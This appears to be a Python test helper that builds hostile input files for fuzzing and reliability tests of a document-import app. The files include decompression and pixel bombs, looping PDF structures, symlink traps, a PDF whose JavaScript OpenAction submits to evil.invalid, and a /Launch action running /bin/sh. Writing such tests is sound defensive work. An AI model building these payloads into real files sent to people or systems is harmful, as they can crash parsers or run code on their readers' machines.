"""Hostile and broken input files, for the reliability tests, the fuzzer and the torture harness.

``make_hostile_folder(dir)`` fills ``dir`` with files a user could plausibly feed Paperasse
(or an attacker could mail them): truncated, encrypted, huge, bombs, lies about their type,
special files. It returns ``[(path, description)]``. ``make_hostile_cases(dir)`` returns the same
files as :class:`Case` records that also say what the app must do with each one:

* ``refuse``: exit 2, one line on stderr naming the file, nothing stored;
* ``store``: a valid if odd file: exit 0 and stored properly;
* ``either``: libraries may or may not recover it (a truncated PDF often still opens); both
  outcomes are fine as long as each obeys its own contract.

Everything is generated from code (no binary fixtures) in well under a second, except the
size-limit file, which is sparse (no disk blocks).

Also here: a tiny PDF writer (``build_pdf``, ``text_pdf``) and small valid seeds
(``seed_png``, ``seed_jpeg``, ``seed_pdf``), shared with ``tools/torture.py`` and
``tools/fuzz_intake.py``.
"""

from __future__ import annotations

import io
import os
import random
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

REFUSE, STORE, EITHER = "refuse", "store", "either"


@dataclass(frozen=True)
class Case:
    path: Path
    description: str
    expect: str  # REFUSE | STORE | EITHER
    kind: str = "file"  # file | special (symlink, FIFO, folder: not fuzzable bytes)


# -- a tiny PDF writer ---------------------------------------------------------


def build_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"",
              version: bytes = b"1.4") -> bytes:
    """A PDF from object bodies numbered 1..n, with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, trailer_extra, xref)
    )
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _escape(text: str) -> bytes:
    raw = text.encode("latin-1", errors="replace")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def text_content(lines: list[str]) -> bytes:
    parts = [b"BT /F1 12 Tf 14 TL 56 780 Td"]
    for text in lines:
        parts.append(b"(" + _escape(text) + b") Tj T*")
    parts.append(b"ET")
    return b"\n".join(parts)


def text_pdf(lines: list[str], pages: int = 1, catalog_extra: bytes = b"") -> bytes:
    """A PDF whose pages carry a real text layer (Helvetica): read without OCR."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    content = stream(text_content(lines))
    # 1 catalog, 2 pages, 3 font, 4 content, 5.. page objects
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        font,
        content,
    ]
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>")
    objects.extend([page] * pages)
    return build_pdf(objects)


def sample_lines(nonce: str = "") -> list[str]:
    return [
        "Pharmacie du Marche - 12 rue de la Paix 75002 Paris",
        "FACTURE n. 2025-%s" % (nonce or "0001"),
        "Date : 04/07/2025",
        "Patient : Claire Martin",
        "Semelles orthopediques   1   30,00",
        "Total TTC : 30,00 EUR",
    ]


# -- small valid seeds ------------------------------------------------------------------


def seed_png(size=(120, 40)) -> bytes:
    from PIL import Image, ImageDraw

    im = Image.new("L", size, 255)
    ImageDraw.Draw(im).text((4, 4), "Ordonnance", fill=0)
    buf = io.BytesIO()
    im.save(buf, "PNG")
    return buf.getvalue()


def seed_jpeg(size=(120, 40), exif: bytes | None = None) -> bytes:
    from PIL import Image, ImageDraw

    im = Image.new("RGB", size, "white")
    ImageDraw.Draw(im).text((4, 4), "Facture", fill="black")
    buf = io.BytesIO()
    if exif is not None:
        im.save(buf, "JPEG", quality=70, exif=exif)
    else:
        im.save(buf, "JPEG", quality=70)
    return buf.getvalue()


def seed_pdf() -> bytes:
    return text_pdf(sample_lines())


# -- raw image surgery ----------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int) -> bytes:
    """A PNG that declares ``width`` x ``height`` pixels but carries almost no data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


def png_text_bomb() -> bytes:
    """A valid 1x1 PNG with a zTXt chunk that inflates to 64 MB."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new("L", (1, 1), 255).save(buf, "PNG")
    raw = buf.getvalue()
    compressor = zlib.compressobj(9)
    block = b"A" * (1 << 20)
    bomb = b"".join(compressor.compress(block) for _ in range(64)) + compressor.flush()
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + bomb)
    return raw[:33] + ztxt + raw[33:]


def jpeg_bomb() -> bytes:
    """A JPEG whose frame header declares 65500 x 65500 pixels."""
    raw = bytearray(seed_jpeg((16, 16)))
    i = 2
    while i < len(raw) - 9:
        if raw[i] == 0xFF and raw[i + 1] in (0xC0, 0xC1, 0xC2):
            struct.pack_into(">HH", raw, i + 5, 65500, 65500)
            break
        i += 2 + struct.unpack(">H", raw[i + 2 : i + 4])[0]
    return bytes(raw)


def _tiff_ifd_exif(entries: list[tuple[int, int, int, bytes]], next_ifd: int = 0) -> bytes:
    """A little-endian EXIF (TIFF) block: entries are (tag, type, count, 4-byte value)."""
    body = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        body += struct.pack("<HHI", tag, typ, count) + value.ljust(4, b"\x00")[:4]
    body += struct.pack("<I", next_ifd)
    return b"Exif\x00\x00" + body


def exif_orientation(value: int) -> bytes:
    return _tiff_ifd_exif([(0x0112, 3, 1, struct.pack("<H", value))])


def exif_huge_counts() -> bytes:
    """Tags claiming 2^31 values each, pointing far past the end of the block."""
    return _tiff_ifd_exif([
        (0x010E, 2, 0x7FFFFFFF, struct.pack("<I", 0x7FFFFF00)),  # ImageDescription
        (0x0112, 3, 0x7FFFFFFF, struct.pack("<I", 0x10)),
        (0x8769, 4, 1, struct.pack("<I", 0xFFFFFFF0)),  # ExifIFD far away
    ])


def exif_loop() -> bytes:
    """An IFD whose next-IFD pointer points back at itself, and an ExifIFD pointing at IFD0."""
    return _tiff_ifd_exif([(0x8769, 4, 1, struct.pack("<I", 8))], next_ifd=8)


def jpeg_with_app1(app1: bytes) -> bytes:
    raw = seed_jpeg()
    segment = b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1
    return raw[:2] + segment + raw[2:]


def multipage_tiff(frames: int) -> bytes:
    from PIL import Image

    first = Image.new("L", (4, 4), 255)
    buf = io.BytesIO()
    first.save(buf, "TIFF", save_all=True,
               append_images=[Image.new("L", (4, 4), 255) for _ in range(frames - 1)])
    return buf.getvalue()


def animated_png(frames: int) -> bytes:
    from PIL import Image

    imgs = [Image.new("L", (4, 4), i % 256) for i in range(frames)]
    buf = io.BytesIO()
    imgs[0].save(buf, "PNG", save_all=True, append_images=imgs[1:])
    return buf.getvalue()


def _image_bytes(fmt: str, size=(40, 40), mode="RGB", **kw) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new(mode, size, 255 if mode in ("L", "1", "I;16") else "white").save(buf, fmt, **kw)
    return buf.getvalue()


# -- hostile PDFs ---------------------------------------------------------------------


def pdf_many_pages(pages: int) -> bytes:
    """``pages`` distinct page objects sharing one content stream, written directly."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        stream(b"BT ET"),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>"] * pages
    return build_pdf(objects)


def pdf_same_page_repeated(times: int) -> bytes:
    """One page object listed ``times`` times in /Kids."""
    kids = b" ".join([b"3 0 R"] * times)
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % times,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ])


def pdf_page_tree_loop() -> bytes:
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ])


def pdf_no_pages() -> bytes:
    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_nested_arrays(depth: int) -> bytes:
    """An object nested ``depth`` arrays deep (recursive parsers overflow their stack)."""
    nested = b"[" * depth + b"]" * depth
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Junk " + nested + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Group " + nested + b" >>",
        stream(text_content(sample_lines("NEST"))),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def pdf_nested_dicts(depth: int) -> bytes:
    nested = b"<< /A " * depth + b"1" + b" >>" * depth
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Junk " + nested + b" >>",
        stream(text_content(sample_lines("DICT"))),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def pdf_reference_chain(length: int) -> bytes:
    """/Contents resolved through ``length`` indirect references, each to the next."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"
        b" /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for i in range(length):
        objects.append(b"%d 0 R" % (6 + i))
    objects.append(stream(text_content(sample_lines("CHAIN"))))
    return build_pdf(objects)


def pdf_javascript() -> bytes:
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.invalid/'\\);) >>"
    base = text_pdf(sample_lines("JS"), catalog_extra=b"/OpenAction 99 0 R /AA << /WC 99 0 R >> ")
    # append the action object as an incremental update so the xref stays valid
    return _append_object(base, 99, js)


def pdf_launch_action() -> bytes:
    action = b"<< /Type /Action /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    base = text_pdf(sample_lines("LAUNCH"), catalog_extra=b"/OpenAction 99 0 R ")
    return _append_object(base, 99, action)


def pdf_external_reference() -> bytes:
    """A page whose image is a remote URL (/FS /URL): must never be fetched."""
    base = text_pdf(sample_lines("URL"), catalog_extra=b"/URI << /Base (http://evil.invalid/) >> ")
    obj = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 " \
          b"/ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (http://evil.invalid/x.png) >> >>\nstream\n\nendstream"
    return _append_object(base, 99, obj)


def _append_object(pdf: bytes, number: int, body: bytes) -> bytes:
    """Incremental update adding object ``number`` (keeps the original xref valid)."""
    prev = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
    size = int(pdf.split(b"/Size ", 1)[1].split()[0])
    root = pdf.split(b"/Root ", 1)[1].split(b"R", 1)[0] + b"R"
    out = bytearray(pdf)
    off = len(out)
    out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n" % (number, off)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, number + 1), root, prev, xref)
    return bytes(out)


def pdf_garbage_xref() -> bytes:
    pdf = bytearray(text_pdf(sample_lines("XREF")))
    start = pdf.rindex(b"xref\n")
    end = pdf.rindex(b"trailer")
    rng = random.Random(7)
    for i in range(start + 5, end):
        if pdf[i] not in b"\n":
            pdf[i] = rng.choice(b"0123456789xyz f")
    return bytes(pdf)


def pdf_wrong_startxref() -> bytes:
    pdf = text_pdf(sample_lines("STARTX"))
    head, _, _ = pdf.rpartition(b"startxref\n")
    return head + b"startxref\n999999999\n%%EOF\n"


def pdf_wrong_length() -> bytes:
    pdf = text_pdf(sample_lines("LEN"))
    return pdf.replace(b"<< /Length ", b"<< /Length 99999", 1)


def pdf_flate_bomb(megabytes: int = 256) -> bytes:
    """A content stream that inflates to ``megabytes`` MB of spaces."""
    compressor = zlib.compressobj(9)
    block = b" " * (1 << 20)
    data = b"".join(compressor.compress(block) for _ in range(megabytes)) + compressor.flush()
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        stream(data, b"/Filter /FlateDecode "),
    ])


def pdf_image_bomb() -> bytes:
    """A page with one image XObject declaring 60000 x 60000 pixels and almost no data."""
    data = zlib.compress(b"\xff" * 4096)
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
        stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
        stream(data, b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 "
                     b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode "),
    ])


def pdf_jpeg_bomb_image() -> bytes:
    """A page whose single image is a DCT stream with a 65500 x 65500 frame header."""
    jpeg = jpeg_bomb()
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
        stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
        stream(jpeg, b"/Type /XObject /Subtype /Image /Width 65500 /Height 65500 "
                     b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode "),
    ])


def pdf_huge_mediabox() -> bytes:
    """No text, a 14400 x 14400 pt page (5 m square): rendering must be scaled down, not OOM."""
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R >>",
        stream(b"0 0 0 rg 100 100 500 500 re f"),
    ])


def pdf_zero_mediabox() -> bytes:
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] /Contents 4 0 R >>",
        stream(b"0 0 0 rg 0 0 1 1 re f"),
    ])


def pdf_control_chars_text() -> bytes:
    lines = sample_lines("CTRL") + ["NUL\x00BEL\x07ESC\x1b[31mRED\x1b[0m Tab\tend"]
    return text_pdf(lines)


def encrypted_pdf(user_password: str) -> bytes:
    import pypdf

    reader = pypdf.PdfReader(io.BytesIO(text_pdf(sample_lines("ENC"))))
    writer = pypdf.PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def zip_as_pdf() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("facture.pdf", text_pdf(sample_lines("ZIP")))
    return buf.getvalue()


def zip_bomb_named_pdf() -> bytes:
    """A zip whose member inflates to 100 MB, renamed .pdf (first bytes are PK, not %PDF)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("a.pdf", b"\x00" * (100 << 20))
    return buf.getvalue()


# -- the folder -----------------------------------------------------------------------


def make_hostile_cases(folder: str | os.PathLike, include_slow: bool = True) -> list[Case]:
    """Write every hostile file into ``folder`` and say what the app must do with each."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    rng = random.Random(20251122)

    def add(name: str, data: bytes, description: str, expect: str) -> Path:
        path = folder / name
        path.write_bytes(data)
        cases.append(Case(path, description, expect))
        return path

    pdf = text_pdf(sample_lines("CUT"))
    # Truncated PDFs at several cut points (pypdf often recovers the early ones' text).
    for frac in (0.05, 0.25, 0.5, 0.75, 0.9):
        cut = max(9, int(len(pdf) * frac))
        add(f"truncated_{int(frac * 100):02d}pct.pdf", pdf[:cut],
            f"text PDF truncated at {int(frac * 100)}% ({cut} of {len(pdf)} bytes)", EITHER)
    add("truncated_minus1.pdf", pdf[:-1], "text PDF missing its last byte", EITHER)
    add("truncated_no_eof.pdf", pdf[: pdf.rindex(b"startxref")], "text PDF cut before startxref/%%EOF", EITHER)
    add("header_only.pdf", b"%PDF-1.7\n", "a PDF header and nothing else", REFUSE)
    add("encrypted.pdf", encrypted_pdf("secret"), "RC4-128 encrypted PDF with a user password", REFUSE)
    add("encrypted_owner_only.pdf", encrypted_pdf(""),
        "encrypted PDF with an empty user password (owner password only)", EITHER)
    add("pages_10000.pdf", pdf_many_pages(10_000), "PDF with 10,000 pages", REFUSE)
    add("pages_301.pdf", pdf_many_pages(301), "PDF with 301 pages (one over the page limit)", REFUSE)
    add("same_page_10000_times.pdf", pdf_same_page_repeated(10_000),
        "one page object referenced 10,000 times in /Kids", REFUSE)
    add("page_tree_loop.pdf", pdf_page_tree_loop(), "page tree whose /Kids point back to the root", REFUSE)
    add("no_pages.pdf", pdf_no_pages(), "valid PDF with zero pages", REFUSE)
    add("garbage_xref.pdf", pdf_garbage_xref(), "text PDF whose xref table is random characters", EITHER)
    add("wrong_startxref.pdf", pdf_wrong_startxref(), "startxref pointing 1 GB past the end", EITHER)
    add("wrong_length.pdf", pdf_wrong_length(), "content stream with a wrong /Length", EITHER)
    add("nested_arrays.pdf", pdf_nested_arrays(50_000), "arrays nested 50,000 deep", EITHER)
    add("nested_dicts.pdf", pdf_nested_dicts(20_000), "dictionaries nested 20,000 deep", EITHER)
    add("reference_chain.pdf", pdf_reference_chain(5_000),
        "page contents reached through 5,000 chained indirect references", EITHER)
    add("javascript.pdf", pdf_javascript(), "PDF with a JavaScript OpenAction (alert + submitForm)", STORE)
    add("launch_action.pdf", pdf_launch_action(), "PDF with a /Launch action running /bin/sh", STORE)
    add("remote_image.pdf", pdf_external_reference(),
        "PDF referencing a remote URL (must not be fetched)", STORE)
    add("flate_bomb.pdf", pdf_flate_bomb(256 if include_slow else 32),
        "content stream inflating to 256 MB (decompression bomb)", EITHER)
    add("image_bomb.pdf", pdf_image_bomb(), "image XObject declaring 60000x60000 pixels", EITHER)
    add("jpeg_bomb_inside.pdf", pdf_jpeg_bomb_image(), "DCT image with a 65500x65500 frame inside a PDF", EITHER)
    add("huge_mediabox.pdf", pdf_huge_mediabox(), "textless page 14400x14400 pt (must render scaled)", STORE)
    add("zero_mediabox.pdf", pdf_zero_mediabox(), "page with a 0x0 MediaBox", EITHER)
    add("control_chars.pdf", pdf_control_chars_text(), "text layer with NUL, BEL and ANSI escapes", STORE)
    add("zip_renamed.pdf", zip_as_pdf(), "a zip archive renamed .pdf", REFUSE)
    add("zip_bomb_renamed.pdf", zip_bomb_named_pdf(), "a 100 MB zip bomb renamed .pdf", REFUSE)
    add("pdf_marker_in_text.pdf", b"hello\n" * 20 + b"%PDF-1.4 not really\n" + b"x" * 200,
        "text file with '%PDF-' inside its first kilobyte", REFUSE)

    # Empty and lying files.
    for ext in ("pdf", "jpg", "png"):
        add(f"empty.{ext}", b"", f"0-byte .{ext}", REFUSE)
    text = b"Ceci n'est pas une image.\nNIR 1 85 05 78 006 084 36\n"
    for ext in ("jpg", "png", "pdf", "tiff", "heic"):
        add(f"text_named.{ext}", text, f"plain text file named .{ext}", REFUSE)
    for ext in ("jpg", "png", "pdf", "tif", "heic", "webp"):
        add(f"random.{ext}", rng.randbytes(4096), f"4 KB of random bytes named .{ext}", REFUSE)
    for ext, magic in (("jpg", b"\xff\xd8\xff\xe0"), ("png", b"\x89PNG\r\n\x1a\n"), ("tif", b"II*\x00")):
        add(f"magic_then_random.{ext}", magic + rng.randbytes(4096),
            f"right magic bytes for .{ext}, random bytes after", REFUSE)

    # Bombs and absurd images.
    add("png_bomb.png", png_bomb(100_000, 100_000), "PNG declaring 100000x100000 px (10 Gpx) in 100 bytes", REFUSE)
    add("png_bomb_wide.png", png_bomb(2_000_000_000, 1), "PNG declaring 2,000,000,000x1 px", REFUSE)
    add("png_text_bomb.png", png_text_bomb(), "1x1 PNG with a zTXt chunk inflating to 64 MB", EITHER)
    add("jpeg_bomb.jpg", jpeg_bomb(), "JPEG whose header declares 65500x65500 px", REFUSE)
    jpeg = seed_jpeg((300, 200))
    png = seed_png((300, 200))
    add("truncated.jpg", jpeg[: len(jpeg) // 2], "JPEG cut in half", EITHER)
    add("truncated_header.jpg", jpeg[:20], "JPEG cut inside its header (20 bytes)", REFUSE)
    add("truncated.png", png[: len(png) // 2], "PNG cut in half", REFUSE)
    add("truncated_header.png", png[:30], "PNG cut inside IHDR (30 bytes)", REFUSE)
    bad_crc = bytearray(png)
    bad_crc[29] ^= 0xFF  # IHDR CRC
    add("bad_crc.png", bytes(bad_crc), "PNG with a corrupt IHDR checksum", EITHER)
    add("exif_orientation_99.jpg", jpeg_with_app1(exif_orientation(99)), "JPEG with EXIF orientation 99", STORE)
    add("exif_orientation_0.jpg", jpeg_with_app1(exif_orientation(0)), "JPEG with EXIF orientation 0", STORE)
    add("exif_huge_counts.jpg", jpeg_with_app1(exif_huge_counts()),
        "JPEG with EXIF tags claiming 2^31 values pointing past the end", EITHER)
    add("exif_loop.jpg", jpeg_with_app1(exif_loop()), "JPEG whose EXIF IFD chain loops on itself", EITHER)
    add("exif_garbage.jpg", jpeg_with_app1(b"Exif\x00\x00" + rng.randbytes(2000)),
        "JPEG with 2 KB of random EXIF", EITHER)
    add("tiff_garbage.tif", b"II*\x00" + struct.pack("<I", 8) + b"\x00\x00" + rng.randbytes(64),
        "TIFF header with an IFD of 0 entries then garbage (0 frames)", REFUSE)
    add("tiff_ifd_past_end.tif", b"MM\x00*" + struct.pack(">I", 0x7FFFFFF0), "TIFF whose first IFD is past the end", REFUSE)
    add("tiff_301_frames.tif", multipage_tiff(301), "multi-page TIFF with 301 frames", REFUSE)
    add("apng_400_frames.png", animated_png(400), "animated PNG with 400 frames", EITHER)
    add("heic_garbage.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + rng.randbytes(512),
        "HEIC brand box followed by garbage", REFUSE)
    add("gif_named.png", _image_bytes("GIF"), "a valid GIF named .png (unsupported type)", REFUSE)
    add("bmp_valid.bmp", _image_bytes("BMP"), "a valid BMP (suffix importable, format not read)", EITHER)
    add("webp_valid.webp", _image_bytes("WEBP"), "a valid WebP (suffix importable, format not read)", EITHER)
    polyglot = jpeg_with_app1(b"Exif\x00\x00" + b"%PDF-1.4 " + b"\x00" * 8)
    add("polyglot_pdf_marker.jpg", polyglot, "valid JPEG whose first KB contains '%PDF-'", EITHER)

    # Odd but valid images: must be stored.
    add("one_pixel.png", _image_bytes("PNG", (1, 1), "L"), "1x1 px PNG", STORE)
    add("wide_20000x20.png", _image_bytes("PNG", (20000, 20), "L"), "20000x20 px PNG", STORE)
    add("tall_20x20000.png", _image_bytes("PNG", (20, 20000), "L"), "20x20000 px PNG", STORE)
    add("sixteen_bit.png", _image_bytes("PNG", (64, 64), "I;16"), "16-bit greyscale PNG", STORE)
    add("cmyk.jpg", _image_bytes("JPEG", (64, 64), "CMYK"), "CMYK JPEG", STORE)
    add("png_as.pdf", png, "a valid PNG named .pdf", STORE)
    add("jpeg_as.png", jpeg, "a valid JPEG named .png", STORE)

    # Names.
    add(os.fsdecode(b"latin1_\xe9t\xe9.png"), _image_bytes("PNG", (8, 8), "L"),
        "valid PNG whose name is not UTF-8 (Latin-1 bytes)", STORE)
    add(os.fsdecode(b"garbage_\xff\xfe.pdf"), b"not a pdf",
        "garbage file whose name is not UTF-8", REFUSE)
    add("new\nline.pdf", b"not a pdf either", "garbage file with a newline in its name", REFUSE)
    add("\x1b[31mred\x1b[0m.pdf", b"still not a pdf", "garbage file whose name has ANSI escapes", REFUSE)
    add("n" * 240 + ".png", _image_bytes("PNG", (8, 8), "L"), "valid PNG with a 244-character name", STORE)
    add("-rf.png", _image_bytes("PNG", (9, 9), "L"), "valid PNG named like an option (-rf.png)", STORE)

    # Size limit: a sparse file one byte over 200 MB.
    from desktop_app.services import limits as _limits

    big = folder / "over_size_limit.pdf"
    with open(big, "wb") as fh:
        fh.write(b"%PDF-1.4\n")
        fh.truncate(_limits.MAX_FILE_BYTES + 1)
    cases.append(Case(big, "sparse file 1 byte over the size limit", REFUSE))

    # Special files.
    special = []
    loop_a, loop_b = folder / "loop_a.pdf", folder / "loop_b.pdf"
    os.symlink(loop_b.name, loop_a)
    os.symlink(loop_a.name, loop_b)
    special.append(Case(loop_a, "symlink loop (a -> b -> a)", REFUSE, "special"))
    self_link = folder / "self_link.jpg"
    os.symlink(self_link.name, self_link)
    special.append(Case(self_link, "symlink pointing to itself", REFUSE, "special"))
    broken = folder / "broken_link.png"
    os.symlink("does-not-exist.png", broken)
    special.append(Case(broken, "broken symlink", REFUSE, "special"))
    unreadable = folder / "unreadable.png"
    unreadable.write_bytes(_image_bytes("PNG", (10, 10), "L"))
    unreadable.chmod(0)
    special.append(Case(unreadable, "valid PNG with mode 000 (root can still read it)",
                        STORE if os.geteuid() == 0 else REFUSE, "special"))
    fifo = folder / "fifo.jpg"
    os.mkfifo(fifo)
    special.append(Case(fifo, "a FIFO named .jpg (opening it would block forever)", REFUSE, "special"))
    dir_jpg = folder / "folder.jpg"
    dir_jpg.mkdir()
    special.append(Case(dir_jpg, "an empty folder named .jpg", REFUSE, "special"))
    dev = Path("/dev/zero")
    if dev.exists():
        link = folder / "dev_zero.pdf"
        os.symlink(dev, link)
        special.append(Case(link, "symlink to /dev/zero (endless stream)", REFUSE, "special"))
    return cases + special


def make_hostile_folder(folder: str | os.PathLike) -> list[tuple[Path, str]]:
    """Fill ``folder`` with hostile files; returns ``[(path, description)]``."""
    return [(c.path, c.description) for c in make_hostile_cases(folder)]


# -- running the cases through ``paperasse import`` ---------------------------------------


@dataclass
class Outcome:
    case: Case
    code: int | str
    stdout: str
    stderr: str
    seconds: float
    docs_before: int
    docs_after: int
    stored_before: set
    stored_after: set
    tmp_after: list
    document: dict | None = None  # the row, when one was stored

    @property
    def message(self) -> str:
        """The line the user saw: the error line, or the import line."""
        for line in self.stderr.splitlines():
            if line.startswith("paperasse:"):
                return line
        return self.stdout.strip().splitlines()[0] if self.stdout.strip() else ""


def _snapshot(data_dir: Path):
    import sqlite3

    db = data_dir / "paperasse.db"
    docs = 0
    if db.exists():
        conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
        try:
            docs = conn.execute("SELECT count(*) FROM documents").fetchone()[0]
        finally:
            conn.close()
    stored = {str(p.relative_to(data_dir)) for p in (data_dir / "originals").rglob("*")
              if p.is_file() and p.name != "originals.lock"} if (data_dir / "originals").exists() else set()
    return docs, stored


def import_case(data_dir: Path, case: Case, person: str | None = None) -> Outcome:
    """Import one case in-process through the CLI's ``main`` and record what happened."""
    import contextlib
    import sqlite3
    import time

    from desktop_app.cli.main import main

    data_dir = Path(data_dir)
    docs_before, stored_before = _snapshot(data_dir)
    out, err = io.StringIO(), io.StringIO()
    argv = ["--data-dir", str(data_dir), "import", str(case.path)]
    if person:
        argv += ["--person", person]
    start = time.monotonic()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:  # argparse
            code = f"SystemExit({exc.code})"
        except BaseException as exc:  # noqa: BLE001 - recorded as a finding
            import traceback

            traceback.print_exc(file=err)
            code = f"raised {type(exc).__name__}"
    seconds = time.monotonic() - start
    docs_after, stored_after = _snapshot(data_dir)
    tmp_after = sorted(p.name for p in (data_dir / "tmp").iterdir()) if (data_dir / "tmp").exists() else []
    document = None
    import re as _re

    found = _re.search(r"imported as document (\d+)", out.getvalue())
    if found:
